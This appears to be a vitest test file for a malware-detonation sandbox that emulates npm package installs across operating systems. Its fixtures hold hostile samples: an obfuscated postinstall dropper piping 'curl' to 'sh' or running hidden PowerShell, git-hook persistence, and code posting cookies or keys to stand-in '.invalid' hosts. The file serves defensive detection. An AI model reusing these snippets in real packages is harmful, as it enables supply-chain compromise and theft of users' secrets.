import { describe, expect, test } from "vitest";

import { detonatePackage } from "./detonate-package.ts";
import type { Progress } from "./detonate-package.ts";
import type { DetonateOptions, Detonation } from "./detonation.ts";
import { Emulator } from "./emulator.ts";
import { detonateLimits } from "./limits.ts";
import { createWorld } from "./worlds/worlds.ts";

const emulator = Emulator.create({ ...detonateLimits, stackMaxBytes: 160 * 1024 });

async function detonate(
  files: Readonly<Record<string, string>>,
  options: DetonateOptions = {},
  onProgress?: (progress: Progress) => void,
): Promise<Detonation> {
  const entries = Object.entries(files).map(([path, text]) => ({ path, bytes: Buffer.from(text) }));
  const tools = { emulator: await emulator, now: () => performance.now() };
  return await detonatePackage(
    { entries: entries as never }, // Of an entry, its path and bytes alone are looked at.
    options,
    onProgress === undefined ? tools : { ...tools, onProgress },
  );
}

function manifest(members: object): string {
  return JSON.stringify({ name: "sample", version: "1.0.0", ...members });
}

/** A dropper's skeleton: texts behind an encoding, a command for each system, and the way out. */
const dropper = `
  const t = (s) => Buffer.from(s.split("").reverse().join(""), "base64").toString();
  const os = require("os"), fs = require("fs"), { exec } = require("child_process"), host = t("==AZpxWY25WauIzY");
  if (os.platform() === "win32") exec("powershell -w hidden -c iwr http://" + host);
  else if (os.platform() === "darwin") exec("osascript /tmp/" + host);
  else exec("curl http://" + host + " | sh");
  fs.unlinkSync(__filename);`;

const armed = {
  "package.json": manifest({ scripts: { postinstall: "node setup.js" } }),
  "setup.js": dropper,
};

describe("detonatePackage", () => {
  test("begins no run after its budget, and says what was left out", async () => {
    const { triggers, findings } = await detonate(armed, { budgetMs: 0 });

    expect(triggers).toMatchObject([{ worlds: [], untried: ["linux-laptop"], coverage: undefined }]);
    expect(findings).toEqual([]);
  });

  test("finds what an install left when the package is loaded", async () => {
    const { triggers, findings } = await detonate(
      {
        "package.json": manifest({ scripts: { postinstall: "node setup.js" } }),
        "setup.js":
          "require('https').get('https://files.example/tool.bin', (a) => a.pipe(require('fs').createWriteStream('tool.bin')));",
        "index.js": `const { existsSync } = require("fs"), file = __dirname + "/tool.bin";
          if (existsSync(file)) require("child_process").spawn(file, ["serve"], { detached: true });`,
      },
      { triggers: ["install", "import"] },
    );

    expect(triggers[0]?.worlds[0]?.observations.map(({ api }) => api)).not.toContain("child_process.spawn");
    expect(findings).toMatchObject([{ id: "download-executed", strength: "decisive" }]);
    expect(findings[0]?.message).toContain("when it is imported (index.js), in all 3 worlds");
  });

  test.each([
    ["a date", "Date.now() > Date.UTC(2027, 1, 1)"],
    ["the night", "new Date().getHours() >= 20"],
    ["years", "new Date().getFullYear() >= 2034"],
    ["a weekend", "[0, 6].includes(new Date().getDay())"],
    ["files that are old", "Date.now() - require('fs').statSync(__filename).mtimeMs > 7 * 864e5"],
    ["what a program says", "Number(require('child_process').execSync('date +%Y').toString()) > 2027"],
  ])("sees what code does that waits for %s", async (_, condition) => {
    const { triggers } = await detonate({
      "package.json": armed["package.json"],
      "setup.js": `if (${condition}) require("fs").writeFileSync("/tmp/came", "x");`,
    });
    const [trigger] = triggers;

    const acting = trigger?.worlds.filter(({ observations }) =>
      observations.some(({ api }) => api === "fs.writeFile"),
    );

    expect(acting?.map(({ name }) => name)).toEqual(["linux-later"]);
  });

  test.each([
    ["chance", "Math.random() < 0.01"],
    ["a number that is drawn", "Math.floor(Math.random() * 500) === 77"],
    [
      "the fifth time",
      "((f, p) => { let n = 0; try { n = Number(f.readFileSync(p, 'utf8')); } catch {} f.writeFileSync(p, String(n + 1)); return n >= 4; })(require('fs'), __dirname + '/count')",
    ],
  ])("sees what code does that acts now and then: %s", async (_, condition) => {
    const { triggers } = await detonate({
      "package.json": armed["package.json"],
      "setup.js": `if (${condition}) require("child_process").exec("id");`,
    });
    const [trigger] = triggers;

    const acting = trigger?.worlds.filter(({ observations }) =>
      observations.some(({ kind }) => kind === "process"),
    );

    expect(acting?.map(({ name }) => name)).toContain("linux-often");
    expect(acting?.map(({ name }) => name)).not.toContain("linux-laptop");
  });

  test("tries no other time where all has run", async () => {
    const { triggers } = await detonate({
      "package.json": armed["package.json"],
      "setup.js": "console.log(new Date().getFullYear());",
    });
    const [trigger] = triggers;

    expect(trigger?.worlds.map(({ name }) => name)).not.toContain("linux-later");
  });

  test("shows what each system would have been done, differences first", async () => {
    const { triggers } = await detonate(armed);
    const [trigger] = triggers;

    expect(trigger?.worlds.map(({ name, ended }) => [name, ended])).toEqual([
      ["linux-laptop", "rest"],
      ["darwin-laptop", "rest"],
      ["win32-laptop", "rest"],
    ]);
    const commands = trigger?.worlds.map(
      ({ observations }) => observations.find(({ kind }) => kind === "process")?.data["command"],
    );
    expect(commands).toEqual([
      "curl http://c2.invalid | sh",
      "osascript /tmp/c2.invalid",
      "powershell -w hidden -c iwr http://c2.invalid",
    ]);
    expect(trigger?.differences.map(({ worlds }) => worlds.length)).toEqual(expect.arrayContaining([1]));
    expect(trigger?.coverage).toBe(1);
  });

  test("gives the same for the same bytes, in whatever order packages come", async () => {
    const first = await detonate(armed);
    await detonate(
      { "package.json": manifest({ main: "a.js" }), "a.js": "globalThis.leak = new Array(1e5).fill({})" },
      { triggers: ["import"] },
    );
    const second = await detonate(armed);
    const random = {
      "package.json": manifest({ scripts: { install: "node a.js" } }),
      "a.js":
        "require('child_process').exec([Math.random(), Date.now(), performance.now(), require('crypto').randomUUID(), process.hrtime().join(), new Date()].join())",
    };

    expect(second).toEqual(first);
    expect(await detonate(random)).toEqual(await detonate(random));
  });

  test("runs the scripts of an install one after the other on one disk, and those that they start", async () => {
    const { triggers } = await detonate(
      {
        "package.json": manifest({ scripts: { preinstall: "node a.js", postinstall: "node b.js" } }),
        "a.js": "require('fs').writeFileSync('made.js', 'require(\"child_process\").exec(\"from made\")')",
        "b.js": "require('child_process').execFileSync(process.execPath, ['made.js'])",
      },
      { worlds: [createWorld("linux-laptop", 0)] },
    );

    const details = triggers[0]?.worlds[0]?.observations.map(({ detail }) => detail) ?? [];
    expect(details.some((detail) => detail.includes("from made"))).toBe(true);
  });

  test("starts the hooks of git that an install wrote, as the next commit would", async () => {
    const { triggers, findings } = await detonate({
      "package.json": manifest({ scripts: { postinstall: "node setup.js" } }),
      "setup.js": `
        const path = require("path");
        const hooks = path.resolve(__dirname, "../../.git/hooks");
        for (const name of ["post-commit", "pre-push"])
          require("fs").writeFileSync(path.join(hooks, name), "#!/bin/sh\\nnode node_modules/sample/stage.js\\n");`,
      "stage.js": `require("child_process").exec("curl -s https://collector.invalid/x | sh");`,
    });

    expect(findings.map(({ id }) => id)).toContain("download-executed");
    for (const { observations } of triggers[0]?.worlds ?? []) {
      expect(observations.filter(({ api }) => api === "child_process.exec")).toHaveLength(1);
    }
  });

  test("starts no hook that was there before", async () => {
    const { triggers } = await detonate({
      "package.json": manifest({ scripts: { postinstall: "node setup.js" } }),
      "setup.js": `require("fs").readdirSync(process.env.INIT_CWD + "/.git/hooks");`,
    });

    expect(triggers[0]?.worlds[0]?.observations.filter(({ kind }) => kind === "process")).toEqual([]);
  });

  test("has chance fall otherwise in each world, and always the same in one", async () => {
    const options: DetonateOptions = {
      worlds: (["linux-laptop", "darwin-laptop", "win32-laptop"] as const).map((name) =>
        createWorld(name, 0),
      ),
    };
    const files = {
      "package.json": manifest({ scripts: { postinstall: "node a.js" } }),
      "a.js": "require('fs').writeFileSync('a.txt', String(Math.random()))",
    };
    const seen = async (): Promise<readonly unknown[]> =>
      (await detonate(files, options)).triggers.flatMap(({ worlds }) =>
        worlds.flatMap(({ observations }) => observations.map(({ data }) => data["content"])),
      );

    const first = await seen();

    expect(new Set(first).size).toBe(3);
    expect(await seen()).toEqual(first);
  });

  test("calls what an entry exports where that is wanted, with a secret that is seen to leave", async () => {
    const files = {
      "package.json": manifest({ main: "index.js" }),
      "index.js":
        "exports.sign = (key) => { require('https').request('https://drop.invalid', { method: 'POST' }).end(key) }",
    };
    const imported = await detonate(files, {
      triggers: ["import"],
      worlds: [createWorld("linux-laptop", 0)],
    });
    const called = await detonate(files, { triggers: ["call"], worlds: [createWorld("linux-laptop", 0)] });

    expect(imported.triggers[0]?.worlds[0]?.observations.filter(({ kind }) => kind === "network")).toEqual(
      [],
    );
    expect(called.triggers[0]?.worlds[0]?.observations.flatMap(({ honey }) => honey).length).toBeGreaterThan(
      0,
    );
  });

  test("loads in a page what only pages load, and what speaks of them", async () => {
    const steal = "fetch('https://drop.invalid/', { method: 'POST', body: document.cookie })";
    const { triggers, findings } = await detonate(
      {
        "package.json": manifest({ main: "index.js", browser: "page.js" }),
        "index.js": `if (typeof window !== "undefined") ${steal}`,
        "page.js": steal,
      },
      { triggers: ["import"] },
    );

    const names = triggers.map(({ trigger, worlds }) => [trigger.name, worlds.map(({ name }) => name)]);
    expect(names).toEqual([
      ["index.js", ["linux-laptop", "darwin-laptop", "win32-laptop", "win32-page"]],
      ["page.js", ["win32-page"]],
    ]);
    expect(findings.map(({ id, strength }) => [id, strength])).toContainEqual([
      "planted-secret-sent",
      "decisive",
    ]);
  });

  test("jumps to what waits, and lets what never ends be", async () => {
    const { triggers } = await detonate(
      {
        "package.json": manifest({ scripts: { install: "node a.js" } }),
        "a.js":
          "setTimeout(() => require('child_process').exec('late'), 5 * 24 * 3600e3); setInterval(() => 1, 1000)",
      },
      { worlds: [createWorld("linux-laptop", 0)] },
    );

    const run = triggers[0]?.worlds[0];
    expect(run?.ended).toBe("rest");
    expect(run?.observations.find(({ detail }) => detail.includes("late"))?.atMs).toBeGreaterThanOrEqual(
      5 * 24 * 3600e3,
    );
  });

  test("tells of a run that takes long while it runs", async () => {
    const told: Progress[] = [];
    await detonate(
      {
        "package.json": manifest({ scripts: { install: "node a.js" } }),
        "a.js": "for (let i = 0; i < 120; i++) require('child_process').exec('a' + i)",
      },
      { worlds: [createWorld("linux-laptop", 0)] },
      (progress) => told.push(progress),
    );

    expect(told[0]?.kind).toBe("begun");
    expect(told.at(-1)?.kind).toBe("ended");
    expect(told.some(({ kind }) => kind === "tried")).toBe(true);
  });

  test("has nothing to run in a package without triggers", async () => {
    expect(await detonate({ "package.json": manifest({}) })).toMatchObject({ triggers: [] });
    expect(await detonate({})).toMatchObject({ triggers: [] });
  });
});
